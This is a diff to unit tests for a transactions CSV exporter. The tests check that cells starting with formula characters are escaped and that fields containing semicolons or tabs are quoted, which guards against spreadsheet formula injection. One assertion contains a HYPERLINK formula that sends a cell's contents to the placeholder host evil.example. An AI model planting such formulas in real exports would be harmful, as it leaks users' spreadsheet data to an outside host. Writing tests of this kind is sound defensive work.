@@ -39,7 +39,17 @@ describe('the transactions CSV', () => {
     expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"`);
     expect(fieldsOf(csv)[column('reference')]).toBe(`'-2+3`);
     expect(fieldsOf(transactionsCsv([row({ narration: '+1' })]))[column('narration')]).toBe(`'+1`);
-    expect(transactionsCsv([row({ narration: '\t1' })])).toContain(`,'\t1,`);
+    expect(transactionsCsv([row({ narration: '\t1' })])).toContain(`,"'\t1",`);
+    // Split on `;` or a tab, as spreadsheets of many locales split CSV, no cell starts a formula.
+    const split = transactionsCsv([
+      row({ counterparty: { account_name: 'ADA;=1+1' }, narration: 'x\t=2+2' }),
+    ]);
+    expect(split).toContain(',"ADA;=1+1",');
+    expect(split).toContain(',"x\t=2+2",');
+    for (const line of split.split('\r\n').slice(1, -1)) {
+      const cells = line.replace(/"(?:[^"]|"")*"/g, 'quoted').split(/[;,\t]/);
+      expect(cells.filter((cell) => /^[=+\-@]/.test(cell))).toEqual([]);
+    }
     expect(transactionsCsv([row({ narration: '\r1' })])).toContain(`,"'\r1",`);
   });
 
